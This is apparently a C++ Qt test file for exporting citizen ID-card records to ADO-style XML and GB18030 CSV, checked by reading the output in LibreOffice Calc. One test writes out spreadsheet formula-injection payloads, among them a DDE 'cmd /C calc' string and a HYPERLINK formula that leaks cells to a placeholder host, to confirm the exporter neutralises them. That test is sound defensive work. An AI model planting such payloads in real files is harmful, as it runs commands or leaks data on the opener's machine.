// The export of the records: the XML document, the CSV file as Calc reads it, and the columns
// of the other card types.
#include "TestRecordExport.h"
#include "TestSupport.h"

#include "query/AdoXmlWriter.h"
#include "query/CardRecord.h"
#include "query/CsvField.h"
#include "query/RecordExport.h"
#include "store/Schema.h"
#include "text/Gbk.h"

#include <QBuffer>
#include <QHash>
#include <QSqlQuery>
#include <QTest>

using namespace RecordExportTest;

void TestRecordExport::xmlDocument()
{
    ExportFixture fx;
    const QString path = fx.path(QStringLiteral("EMPTY.XML"));
    QCOMPARE(RecordExport(fx.db()).exportTo(path, RecordExport::Format::Xml, {}), 0);
    const QByteArray bytes = ExportFixture::readFile(path);
    const ParsedXml parsed = parseXml(bytes);
    QVERIFY2(parsed.error.isEmpty(), qPrintable(parsed.error));
    QVERIFY(bytes.startsWith("<xml xmlns:s='uuid:BDC6E3F0-6DA3-11d1-A2A3-00AA00C14882'"));
    QCOMPARE(parsed.namespaces, (QStringList{QStringLiteral("s=uuid:BDC6E3F0-6DA3-11d1-A2A3-00AA00C14882"),
                                             QStringLiteral("dt=uuid:C2F41010-65B3-11d1-A29F-00AA00C14882"),
                                             QStringLiteral("rs=urn:schemas-microsoft-com:rowset"),
                                             QStringLiteral("z=#RowsetSchema")}));
    QVERIFY(bytes.contains("<s:Schema id='RowsetSchema'>"));
    QVERIFY(bytes.contains("<rs:data>"));
    QVERIFY(parsed.rowbase);
    const QStringList columns = {QStringLiteral("IDCardNum"),
                                 QStringLiteral("Name"),
                                 QStringLiteral("sex"),
                                 QStringLiteral("Folk"),
                                 QStringLiteral("BirthDay"),
                                 QStringLiteral("Address"),
                                 QStringLiteral("NewAddress"),
                                 QStringLiteral("IssueOrgan"),
                                 QStringLiteral("AvailabilityBegin"),
                                 QStringLiteral("AvailabilityEnd"),
                                 QStringLiteral("CheckTime")};
    QCOMPARE(parsed.names, columns);
    QCOMPARE(parsed.realNames, columns);
    QCOMPARE(parsed.types.size(), 11);
    QCOMPARE(parsed.types.count(QStringLiteral("string")), 10);
    QCOMPARE(parsed.types.last(), QStringLiteral("dateTime"));
    QVERIFY(parsed.rows.isEmpty());
}

void TestRecordExport::xmlRoundTrip()
{
    ExportFixture fx;
    ExportFixture::Citizen odd;
    odd.id = QStringLiteral("11010519491231002X");
    odd.name = QStringLiteral("O'Brien & \"张三\" <Co>");
    odd.address = QStringLiteral("第一行\n第二行\r\n\t末尾");
    odd.newAddress = QString(QStringLiteral("")); // empty, not null
    odd.times = {QStringLiteral("2024-05-06 09:30:00")};
    fx.add(odd);
    ExportFixture::Citizen plain;
    plain.id = ExportFixture::idNumber(7);
    plain.name = QStringLiteral("李四");
    fx.add(plain); // no newest address, never verified: two nulls
    // Verification times written by another program with fractions of a second.
    ExportFixture::Citizen precise;
    precise.id = ExportFixture::idNumber(8);
    precise.name = QStringLiteral("王五");
    precise.times = {QStringLiteral("2024-05-06 09:30:00.25"),
                     QStringLiteral("2024-05-06 09:30:00.123456789")};
    fx.add(precise);
    ExportFixture::Citizen millis;
    millis.id = ExportFixture::idNumber(9);
    millis.name = QStringLiteral("赵六");
    millis.times = {QStringLiteral("2024-05-07T10:00:01.5")};
    fx.add(millis);

    const QString path = fx.path(QStringLiteral("R.XML"));
    QCOMPARE(RecordExport(fx.db()).exportTo(path, RecordExport::Format::Xml, {}), 4);
    const ParsedXml parsed = parseXml(ExportFixture::readFile(path));
    QVERIFY2(parsed.error.isEmpty(), qPrintable(parsed.error));
    QCOMPARE(parsed.rows.size(), 4);
    QHash<QString, QString> checkTimes;
    for (const auto &row : parsed.rows)
        checkTimes.insert(row.value(QStringLiteral("Name")), row.value(QStringLiteral("CheckTime")));
    QCOMPARE(checkTimes.value(QStringLiteral("王五")), QStringLiteral("2024-05-06T09:30:00.250000000"));
    QCOMPARE(checkTimes.value(QStringLiteral("赵六")), QStringLiteral("2024-05-07T10:00:01.500000000"));
    QHash<QString, QString> first;
    QHash<QString, QString> second;
    for (const auto &row : parsed.rows) {
        if (row.value(QStringLiteral("IDCardNum")) == odd.id)
            first = row;
        else if (row.value(QStringLiteral("IDCardNum")) == plain.id)
            second = row;
    }
    QCOMPARE(first.value(QStringLiteral("IDCardNum")), odd.id);
    QCOMPARE(first.value(QStringLiteral("Name")), odd.name);
    QCOMPARE(first.value(QStringLiteral("Address")), odd.address);
    QVERIFY(first.contains(QStringLiteral("NewAddress")));
    QCOMPARE(first.value(QStringLiteral("NewAddress")), QString());
    QCOMPARE(first.value(QStringLiteral("CheckTime")), QStringLiteral("2024-05-06T09:30:00"));
    QCOMPARE(first.value(QStringLiteral("AvailabilityEnd")), odd.end);
    QCOMPARE(first.size(), 11);
    QCOMPARE(second.value(QStringLiteral("Name")), QStringLiteral("李四"));
    QVERIFY(!second.contains(QStringLiteral("NewAddress")));
    QVERIFY(!second.contains(QStringLiteral("CheckTime")));
    QCOMPARE(second.size(), 9);
}

void TestRecordExport::xmlAliasesAndControls()
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    AdoXmlWriter writer(&buffer, {{QStringLiteral("ID Number")},
                                  {QStringLiteral("c0")},
                                  {QStringLiteral("name")},
                                  {QStringLiteral("Name")},
                                  {QStringLiteral("When"), AdoXmlWriter::Type::DateTime}});
    QCOMPARE(writer.xmlNames(),
             (QStringList{QStringLiteral("c0_"), QStringLiteral("c0"), QStringLiteral("name"),
                          QStringLiteral("c3"), QStringLiteral("When")}));
    QVERIFY(writer.writeHeader());
    QVERIFY(writer.writeRow({QStringLiteral("a\x01"
                                            "b\uFFFF"),
                             QVariant(), QStringLiteral("x"), QStringLiteral("y"),
                             QDateTime(QDate(1899, 12, 29), QTime(12, 0))}));
    QVERIFY(!writer.writeRow({QVariant(), QVariant(), QVariant(), QVariant(), QStringLiteral("2024-13-xx")}));
    QVERIFY(!writer.writeRow(
        {QVariant(), QVariant(), QVariant(), QVariant(), QStringLiteral("2024-05-06 09:30:00.1234567890")}));
    QVERIFY(!writer.writeRow(
        {QVariant(), QVariant(), QVariant(), QVariant(), QStringLiteral("2024-05-06 09:30:00.")}));
    QVERIFY(!writer.writeRow(
        {QVariant(), QVariant(), QVariant(), QVariant(), QStringLiteral("2024-05-06 09:30:00,5")}));
    QVERIFY(writer.finish());
    const ParsedXml parsed = parseXml(buffer.data());
    QVERIFY2(parsed.error.isEmpty(), qPrintable(parsed.error));
    QCOMPARE(parsed.realNames,
             (QStringList{QStringLiteral("ID Number"), QStringLiteral("c0"), QStringLiteral("name"),
                          QStringLiteral("Name"), QStringLiteral("When")}));
    QCOMPARE(parsed.rows.size(), 1);
    QCOMPARE(parsed.rows.first().value(QStringLiteral("c0_")), QStringLiteral("ab\uFFFD"));
    QCOMPARE(parsed.rows.first().value(QStringLiteral("When")), QStringLiteral("1899-12-29T12:00:00"));
}

void TestRecordExport::calcReadsCsvAsGb18030()
{
    ExportFixture fx;
    ExportFixture::Citizen c;
    c.id = ExportFixture::idNumber(5);
    c.name = QStringLiteral("欧阳娜娜");
    c.folk = QStringLiteral("维吾尔族");
    c.times = {QStringLiteral("2024-05-06 09:30:00")};
    fx.add(c);
    ExportFixture::Citizen rare;
    rare.id = ExportFixture::idNumber(6);
    rare.name = QStringLiteral("刘䶮");
    rare.address = QStringLiteral("北京市\U00020000胡同1号");
    fx.add(rare);
    const QString csv = fx.path(QStringLiteral("CALC.CSV"));
    RecordExport(fx.db()).exportTo(csv, RecordExport::Format::Csv, {});

    QString skip;
    const QString text = readByCalc(fx, csv, &skip);
    if (!skip.isEmpty())
        QSKIP(qPrintable(skip));
    QVERIFY(!text.isEmpty());
    // Calc quotes its text cells; none of these values holds a quote of its own.
    const QStringList lines =
        QString(text).remove(QLatin1Char('"')).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 3);
    QCOMPARE(
        lines.at(0).trimmed(),
        QStringLiteral("公民身份号码,姓名,性别,民族,出生,住址,最新住址,签发机关,有效期起,有效期止,验证时间"));
    const QStringList cells = lines.at(1).trimmed().split(QLatin1Char(','));
    QCOMPARE(cells.size(), 11);
    QCOMPARE(cells.at(1), c.name);
    QCOMPARE(cells.at(3), c.folk);
    QCOMPARE(cells.at(5), c.address);
    const QStringList rareCells = lines.at(2).trimmed().split(QLatin1Char(','));
    QCOMPARE(rareCells.size(), 11);
    QCOMPARE(rareCells.at(1), rare.name);
    QCOMPARE(rareCells.at(5), rare.address);
}

void TestRecordExport::calcRunsNoFormulaAndSplitsNoRow()
{
    ExportFixture fx;
    fx.addCardColumns();
    QList<ExportFixture::Citizen> cards;
    cards.reserve(8); // card() hands out references into it
    const auto card = [&cards](int serial) -> ExportFixture::Citizen & {
        ExportFixture::Citizen c;
        c.id = ExportFixture::idNumber(serial);
        c.name = QStringLiteral("普通");
        c.times = {QStringLiteral("2024-05-06 09:30:00")};
        cards << c;
        return cards.last();
    };
    card(1).name = QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&B3&C3,\"点此\")");
    card(2).issueOrgan = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
    card(3).issueOrgan = QStringLiteral("+1+2");
    ExportFixture::Citizen &commas = card(4);
    commas.issueOrgan = QStringLiteral("-2+3");
    commas.address = QStringLiteral("上海市,黄浦区,南京东路1号");
    commas.newAddress = QStringLiteral("新址,\"引号\"");
    ExportFixture::Citizen &controls = card(5);
    controls.name = QStringLiteral("\t=1+1");
    controls.address = QStringLiteral("\r=2+2");
    controls.newAddress = QStringLiteral("第一行\n第二行");
    ExportFixture::Citizen &foreign = card(6);
    foreign.card.CardType = CardRecord::Permanent;
    foreign.card.EnglishName = QStringLiteral("=1+1, SMITH");
    foreign.card.Nationality = QStringLiteral("@A1");
    const ExportFixture::Citizen &plain = card(7);
    for (const ExportFixture::Citizen &c : std::as_const(cards))
        fx.add(c);
    const QString csv = fx.path(QStringLiteral("HOSTILE.CSV"));
    QCOMPARE(RecordExport(fx.db()).exportTo(csv, RecordExport::Format::Csv, {}), cards.size());

    // The file itself: an ordinary row keeps its bytes; the others are quoted and neutralised.
    const QByteArray bytes = ExportFixture::readFile(csv);
    QCOMPARE(bytes.count("\r\n"), cards.size() + 1);
    // Split at every LF, the one inside the quoted new address included: the rows before it and the last.
    const QList<QByteArray> lines = csvLines(bytes);
    QCOMPARE(Gbk::decode(lines.last()),
             plain.id +
                 QStringLiteral(",普通,男,汉族,1980-05-01,北京市东城区景山前街4号,,北京市公安局东城分局,"
                                "2010-01-01,2030-01-01,2024-05-06 09:30:00,,,,,,,,,\r"));
    QVERIFY(lines.at(1).contains(
        Gbk::encode(QStringLiteral(",\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&B3&C3,"
                                   "\"\"点此\"\")\","))));
    QVERIFY(lines.at(4).contains(
        Gbk::encode(QStringLiteral(",\"上海市,黄浦区,南京东路1号\",\"新址,\"\"引号\"\"\","))));
    QVERIFY(lines.at(4).contains(",'-2+3,"));

    QString skip;
    const ExportFixture::CalcSheet sheet =
        ExportFixture::readSheetByCalc(fx.path(QStringLiteral("calc")), csv, &skip);
    if (!skip.isEmpty())
        QSKIP(qPrintable(skip));
    QCOMPARE(sheet.formulas, 0);
    QCOMPARE(sheet.rows.size(), cards.size() + 1);
    const QStringList headers = RecordExport::headerTexts(Schema::cardColumns());
    QCOMPARE(sheet.rows.first(), headers);
    // Every value in its own column, shown as the text it is, a formula's apostrophe before it.
    const auto shown = [](const QString &value) {
        QString text = CsvField::looksLikeFormula(value) ? QLatin1Char('\'') + value : value;
        return text.replace(QStringLiteral("\r\n"), QStringLiteral("\n")).replace(u'\r', u'\n');
    };
    for (qsizetype i = 0; i < cards.size(); ++i) {
        const ExportFixture::Citizen &c = cards.at(i);
        QStringList cells = sheet.rows.at(i + 1);
        QVERIFY2(cells.size() <= headers.size(), qPrintable(cells.join(u'|')));
        cells.resize(headers.size());
        const QStringList expected = {c.id,
                                      shown(c.name),
                                      c.sex,
                                      c.folk,
                                      c.birthDay,
                                      shown(c.address),
                                      shown(c.newAddress.toString()),
                                      shown(c.issueOrgan),
                                      c.begin,
                                      c.end,
                                      c.times.first(),
                                      c.card.CardType,
                                      shown(c.card.EnglishName),
                                      shown(c.card.Nationality),
                                      QString(),
                                      QString(),
                                      QString(),
                                      QString(),
                                      QString(),
                                      QString()};
        for (qsizetype column = 0; column < headers.size(); ++column) {
            // Calc shows numbers and dates as it reads them; only the texts are compared.
            if (column == 0 || column == 4 || (column >= 8 && column <= 10))
                continue;
            QCOMPARE(cells.at(column), expected.at(column));
        }
    }
}

void TestRecordExport::residentRowsStayAsTheyWereOnAnUpgradedDatabase()
{
    ExportFixture fx;
    fx.addMany(30);
    ExportFixture::Citizen odd;
    odd.id = ExportFixture::idNumber(500);
    odd.name = QStringLiteral("O'Brien \"张\"");
    odd.address = QStringLiteral("上海市,黄浦区");
    fx.add(odd);
    const auto exported = [&fx](const QString &name, RecordExport::Format format) {
        const QString path = fx.path(name);
        RecordExport(fx.db()).exportTo(path, format, {});
        return ExportFixture::readFile(path);
    };
    const QByteArray oldCsv = exported(QStringLiteral("OLD.CSV"), RecordExport::Format::Csv);
    const QByteArray oldXml = exported(QStringLiteral("OLD.XML"), RecordExport::Format::Xml);
    fx.addCardColumns();
    const QByteArray newCsv = exported(QStringLiteral("NEW.CSV"), RecordExport::Format::Csv);
    const QByteArray newXml = exported(QStringLiteral("NEW.XML"), RecordExport::Format::Xml);

    // Each line is the line it was, byte for byte, then the nine card fields, empty.
    const QList<QByteArray> before = csvLines(oldCsv);
    const QList<QByteArray> after = csvLines(newCsv);
    QCOMPARE(after.size(), before.size());
    QCOMPARE(after.first(), before.first().chopped(1) + Gbk::encode(u',' + CardHeaders.join(u',')) + '\r');
    for (qsizetype i = 1; i < after.size(); ++i)
        QCOMPARE(after.at(i), before.at(i).chopped(1) + ",,,,,,,,,\r");

    const ParsedXml o = parseXml(oldXml);
    const ParsedXml n = parseXml(newXml);
    QVERIFY2(n.error.isEmpty(), qPrintable(n.error));
    QCOMPARE(n.names.mid(0, 11), o.names);
    QCOMPARE(n.names.mid(11), Schema::cardColumns());
    QCOMPARE(n.types.mid(11), QStringList(9, QStringLiteral("string")));
    QCOMPARE(n.rows, o.rows); // a NULL card field is no attribute at all
}

void TestRecordExport::cardColumnsFollowTheEleven()
{
    ExportFixture fx;
    fx.addCardColumns();
    ExportFixture::Citizen resident;
    resident.id = ExportFixture::idNumber(1);
    resident.name = QStringLiteral("赵一");
    fx.add(resident);
    const ExportFixture::Citizen permit = permitHolder();
    const ExportFixture::Citizen permanent = permanentResident();
    const ExportFixture::Citizen permanent2023 = permanentResident2023();
    fx.add(permit);
    fx.add(permanent);
    fx.add(permanent2023);

    const QString csv = fx.path(QStringLiteral("CARDS.CSV"));
    QCOMPARE(RecordExport(fx.db()).exportTo(csv, RecordExport::Format::Csv, {}), 4);
    const QByteArray bytes = ExportFixture::readFile(csv);
    QVERIFY(bytes.contains(",\"O'NEIL, MARY \"\"ANN\"\"\",USA,"));
    QList<QStringList> rows;
    for (const QByteArray &line : csvLines(bytes))
        rows << csvFields(Gbk::decode(line.chopped(1)));
    QCOMPARE(rows.size(), 5);
    QCOMPARE(rows.at(0).mid(11), CardHeaders);
    for (const QStringList &row : rows)
        QCOMPARE(row.size(), 20);
    // Ordered by number: the resident card, the permit, the card of 2023, the permanent residence card.
    QCOMPARE(rows.at(1).mid(11), QStringList(9, QString()));
    QCOMPARE(rows.at(2).mid(0, 4), (QStringList{permit.id, permit.name, permit.sex, QString()}));
    QCOMPARE(rows.at(2).at(10), permit.times.first());
    QCOMPARE(rows.at(2).mid(11),
             (QStringList{QStringLiteral("J"), QString(), QString(), QStringLiteral("H12345678"),
                          QStringLiteral("01"), QString(), QString(), QString(), QString()}));
    // Its own fields; the link, written as a formula, reaches the file as text.
    QCOMPARE(rows.at(3).mid(0, 2), (QStringList{permanent2023.id, permanent2023.name}));
    QCOMPARE(rows.at(3).mid(11), (QStringList{QStringLiteral("Y"), permanent2023.card.EnglishName,
                                              QStringLiteral("840"), QString(), QString(), QString(),
                                              QString(), QStringLiteral("01"), QStringLiteral("'=311")}));
    QCOMPARE(rows.at(4).at(0), permanent.id);
    QCOMPARE(rows.at(4).at(10), QString()); // never verified
    QCOMPARE(rows.at(4).mid(11),
             (QStringList{QStringLiteral("I"), permanent.card.EnglishName, QStringLiteral("USA"), QString(),
                          QString(), QStringLiteral("17"), QStringLiteral("3100"), QString(), QString()}));

    const QString xml = fx.path(QStringLiteral("CARDS.XML"));
    RecordExport(fx.db()).exportTo(xml, RecordExport::Format::Xml, {});
    const ParsedXml parsed = parseXml(ExportFixture::readFile(xml));
    QVERIFY2(parsed.error.isEmpty(), qPrintable(parsed.error));
    QCOMPARE(parsed.names, RecordExport::columnNames() + Schema::cardColumns());
    QCOMPARE(parsed.rows.size(), 4);
    QCOMPARE(parsed.rows.at(1).value(QStringLiteral("PassNumber")), QStringLiteral("H12345678"));
    QVERIFY(!parsed.rows.at(1).contains(QStringLiteral("EnglishName")));
    QCOMPARE(parsed.rows.at(2).value(QStringLiteral("CardType")), QStringLiteral("Y"));
    QCOMPARE(parsed.rows.at(2).value(QStringLiteral("Nationality")), QStringLiteral("840"));
    QCOMPARE(parsed.rows.at(2).value(QStringLiteral("RenewalCount")), QStringLiteral("01"));
    QCOMPARE(parsed.rows.at(2).value(QStringLiteral("PreviousLink")), QStringLiteral("=311"));
    QVERIFY(!parsed.rows.at(2).contains(QStringLiteral("AuthorityCode")));
    QCOMPARE(parsed.rows.at(3).value(QStringLiteral("EnglishName")), permanent.card.EnglishName);
    QCOMPARE(parsed.rows.at(3).value(QStringLiteral("CardType")), QStringLiteral("I"));
    QVERIFY(!parsed.rows.at(3).contains(QStringLiteral("RenewalCount")));

    // A search by card type selects the export as it selects the list.
    for (const auto &[code, id] :
         {std::pair{QString(QStringLiteral("")), resident.id}, std::pair{CardRecord::Permit, permit.id},
          std::pair{CardRecord::Permanent, permanent.id},
          std::pair{CardRecord::Permanent2023, permanent2023.id}}) {
        SearchCriteria byType;
        byType.equals = {{SearchCriteria::CardTypeColumn, code}};
        const QString path = fx.path(QStringLiteral("TYPE.XML"));
        QCOMPARE(RecordExport(fx.db()).exportTo(path, RecordExport::Format::Xml, byType), 1);
        QCOMPARE(parseXml(ExportFixture::readFile(path)).rows.first().value(QStringLiteral("IDCardNum")), id);
    }

    // A spreadsheet finds the English name in one cell, quotes and comma included.
    QString skip;
    const QString text = readByCalc(fx, csv, &skip);
    if (!skip.isEmpty())
        QSKIP(qPrintable(skip));
    const QStringList lines = text.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 5);
    const QStringList cells = csvFields(lines.at(4).trimmed());
    QCOMPARE(cells.size(), 20);
    QCOMPARE(cells.at(12), permanent.card.EnglishName);
    QCOMPARE(cells.at(17), QStringLiteral("3100"));
    // The link is shown as the text it is, never run.
    QCOMPARE(csvFields(lines.at(3).trimmed()).value(19), QStringLiteral("'=311"));
}

void TestRecordExport::backupOfTheFirstCardTypesKeepsTheirFields()
{
    // A backup made by the version that recorded "J" and "I" cards has their seven columns only.
    ExportFixture fx;
    const ExportFixture::Citizen permanent = permanentResident();
    fx.add(permanent);
    QSqlQuery q(fx.db());
    const QStringList first = Schema::cardColumns().mid(0, 7);
    for (const QString &column : first)
        QVERIFY(q.exec(QStringLiteral("ALTER TABLE citizen ADD COLUMN %1 TEXT").arg(column)));
    QVERIFY(
        q.exec(QStringLiteral("UPDATE citizen SET CardType = 'I', EnglishName = 'MARY', Nationality = 'USA', "
                              "CardVersion = '17', AuthorityCode = '3100'")));
    QCOMPARE(Schema::presentCardColumns(fx.db()), first);

    SearchCriteria byType;
    byType.equals = {{SearchCriteria::CardTypeColumn, CardRecord::Permanent}};
    const QString csv = fx.path(QStringLiteral("FIRST.CSV"));
    QCOMPARE(RecordExport(fx.db()).exportTo(csv, RecordExport::Format::Csv, byType), 1);
    const QList<QByteArray> lines = csvLines(ExportFixture::readFile(csv));
    QCOMPARE(lines.size(), 2);
    QCOMPARE(csvFields(Gbk::decode(lines.at(0).chopped(1))).mid(11), CardHeaders.mid(0, 7));
    QCOMPARE(csvFields(Gbk::decode(lines.at(1).chopped(1))).mid(11),
             (QStringList{QStringLiteral("I"), QStringLiteral("MARY"), QStringLiteral("USA"), QString(),
                          QString(), QStringLiteral("17"), QStringLiteral("3100")}));
    const QString xml = fx.path(QStringLiteral("FIRST.XML"));
    QCOMPARE(RecordExport(fx.db()).exportTo(xml, RecordExport::Format::Xml, byType), 1);
    const ParsedXml parsed = parseXml(ExportFixture::readFile(xml));
    QCOMPARE(parsed.names, RecordExport::columnNames() + first);
    QCOMPARE(parsed.rows.first().value(QStringLiteral("AuthorityCode")), QStringLiteral("3100"));
    const std::optional<CardRecord> card = CardRecord::load(fx.db(), permanent.id);
    QVERIFY(card);
    QCOMPARE(card->CardType, QStringLiteral("I"));
    QCOMPARE(card->EnglishName, QStringLiteral("MARY"));
    QCOMPARE(card->RenewalCount, QString());
}
